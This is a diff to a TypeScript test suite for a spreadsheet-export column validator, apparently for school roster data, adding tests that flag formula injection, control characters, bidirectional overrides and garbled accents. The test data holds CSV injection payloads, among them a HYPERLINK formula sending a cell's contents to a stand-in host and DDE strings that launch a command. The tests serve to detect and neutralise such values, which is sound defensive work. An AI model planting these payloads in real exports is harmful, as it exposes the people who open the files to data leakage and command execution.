@@ -8,7 +8,7 @@ function col(rule?: ColumnRule, required = false, name = 'col'): ColumnDef {
   return { name, required, rule };
 }
 
-function check(column: ColumnDef, value: string, dialect: Dialect = DEFAULT_DIALECT, opts?: { required?: boolean }): ValueProblem[] {
+function check(column: ColumnDef, value: string, dialect: Dialect = DEFAULT_DIALECT, opts?: Parameters<typeof compileColumnCheck>[2]): ValueProblem[] {
   const problems: ValueProblem[] = [];
   compileColumnCheck(column, dialect, opts)(value, problems);
   return problems;
@@ -168,7 +168,8 @@ describe('kinds', () => {
     it.each(['jdoe', 'jdoe@', '@district.org', 'j doe@district.org', 'jdoe@district', 'jdoe@@district.org', '.jdoe@district.org', 'j..doe@district.org', 'jdoe.@district.org', 'jdoe@-district.org', 'jdoe@district.org.', 'josé@district.org', '"jdoe"@district.org', 'jdoe@district.c'])(
       'rejects %j',
       (v) => {
-        const p = check(email, v);
+        // "@district.org" also starts like a spreadsheet formula: that is a warning of its own (see hostile values).
+        const p = check(email, v).filter((problem) => !(v.startsWith('@') && problem.rule === 'formula'));
         expect(p).toHaveLength(1);
         expect(p[0]).toMatchObject({ rule: 'email', severity: 'error' });
         expect(p[0].message).toContain('expected an email address such as name@school.org');
@@ -326,5 +327,66 @@ describe('vendor columns from formats.md', () => {
       ['no-quotes', 'error'],
       ['length', 'warning'],
     ]);
+  });
+});
+
+describe('hostile values (every column of every format)', () => {
+  const plain = col();
+
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"Click")', '"="'],
+    ['+cmd|\' /C calc\'!A0', '"+"'],
+    ['-2+3+cmd|\' /C calc\'!A0', '"-"'],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '"@"'],
+    ['\t=1+1', 'a tab'],
+    ['\r=1+1', 'a carriage return'],
+  ])('flags the formula %j as a warning naming its first character', (value, shown) => {
+    expect(check(plain, value)).toEqual([
+      expect.objectContaining({ rule: 'formula', severity: 'warning', message: expect.stringContaining(`starts with ${shown}, which a spreadsheet runs as a formula`) }),
+    ]);
+  });
+
+  it.each(['-5', '-12.5', '+1 555 010 0199', '+1 (503) 555-0100', '+44 20 7946 0958', '-', '1+1', 'a=b', 'O@Neil'])('leaves the signed number or phone %j alone', (value) => {
+    expect(check(plain, value)).toEqual([]);
+  });
+
+  it('says the value is written neutralised when the destination neutralises formulas', () => {
+    expect(check(plain, '=1+1', DEFAULT_DIALECT, { neutraliseFormulas: true })[0]!.message).toBe(
+      "starts with \"=\", which a spreadsheet runs as a formula; written with a leading ' (neutraliseFormulas) so it shows as text",
+    );
+  });
+
+  it.each([
+    ['Ann\u0000Lee', 'control-character', 'contains U+0000 NUL at character 4'],
+    ['Ann\u0007\u0007', 'control-character', 'contains U+0007 BELL at character 4 (and 1 more)'],
+    ['Ann\u001bLee', 'control-character', 'contains U+001B ESCAPE at character 4'],
+    ['Ann\u0085', 'control-character', 'contains U+0085 C1 CONTROL at character 4'],
+    ['Ann\u007f', 'control-character', 'contains U+007F DELETE at character 4'],
+    ['evil\u202Egpj.exe', 'bidi-override', 'contains U+202E RIGHT-TO-LEFT OVERRIDE at character 5'],
+    ['x\u2066y\u2069', 'bidi-override', 'contains U+2066 LEFT-TO-RIGHT ISOLATE at character 2 (and 1 more)'],
+    ['Rodr\uFFFDguez', 'lost-character', 'contains U+FFFD REPLACEMENT CHARACTER at character 5'],
+  ])('flags %j as an error naming the code point', (value, rule, message) => {
+    const p = check(plain, value);
+    expect(p).toEqual([expect.objectContaining({ rule, severity: 'error' })]);
+    expect(p[0]!.message.startsWith(message)).toBe(true);
+  });
+
+  it('reports each kind once per value, and a formula start besides', () => {
+    expect(check(plain, '=\u0000\u202E').map((p) => p.rule)).toEqual(['formula', 'control-character', 'bidi-override']);
+  });
+
+  it('lets tab, line breaks, accents and non-Latin scripts through', () => {
+    for (const value of ['Ann\tLee', 'Algebra\r\nI', 'Zoë Núñez', 'JOÃO', 'محمد', '李小龍', 'Ꮳ']) expect(check(plain, value), value).toEqual([]);
+  });
+
+  it('warns about accents garbled by a Windows-1252 decoding, with the repaired spelling', () => {
+    expect(check(plain, 'RodrÃ­guez')).toEqual([
+      {
+        rule: 'mojibake',
+        severity: 'warning',
+        message: '"Ã\u00AD" looks like UTF-8 text that was decoded as Windows-1252 (it reads "Rodríguez" when decoded right); correct the value in the SIS or the export step that garbled it',
+      },
+    ]);
+    expect(check(plain, 'JosÃ©')[0]!.message).toContain('(it reads "José" when decoded right)');
   });
 });
